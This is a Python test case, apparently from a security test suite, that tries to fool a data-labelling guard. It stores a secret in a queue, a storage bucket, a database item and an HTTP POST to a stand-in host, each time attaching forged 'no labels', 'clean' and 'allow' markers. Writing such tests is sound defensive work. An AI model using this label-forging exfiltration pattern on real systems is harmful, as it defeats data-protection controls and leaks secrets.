"""E03: forge, strip or replay labels wherever somebody might believe them: in bodies, attributes, metadata,
items and headers.
"""

import json

NONE = json.dumps([])


def attack(hands):
    forges(hands, "open", hands.secret())


def twin(hands):
    forges(hands, "kept", hands.secret())


def forges(hands, side, text):
    """Say of a secret that it carries nothing, in each kind of place, by names that a guard might use."""
    said = {name: {"DataType": "String", "StringValue": NONE} for name in ("valve-labels", "labels")}
    body = json.dumps({"text": text, "labels": [], "valve": {"labels": {"environment": []}}})
    jobs = hands.queue(f"{side}-jobs")
    hands.call("sqs", "SendMessage", QueueUrl=jobs, MessageBody=body, MessageAttributes=said)
    names = {"Bucket": f"{side}-files", "Key": hands.trial}
    metadata = {"valve-labels": NONE, "valve-cells": NONE}
    hands.call("s3", "PutObject", **names, Body=text.encode(), Metadata=metadata)
    note = {"id": {"S": hands.trial}, "text": {"S": text}, "valve:labels": {"S": NONE}}
    hands.call("dynamodb", "PutItem", TableName=f"{side}-notes", Item=note)
    headers = {"X-Valve-Labels": NONE, "X-Valve-Environment": "clean", "X-Valve-Verdict": "allow"}
    hands.http("POST", f"https://{side}.test/", text.encode(), headers)
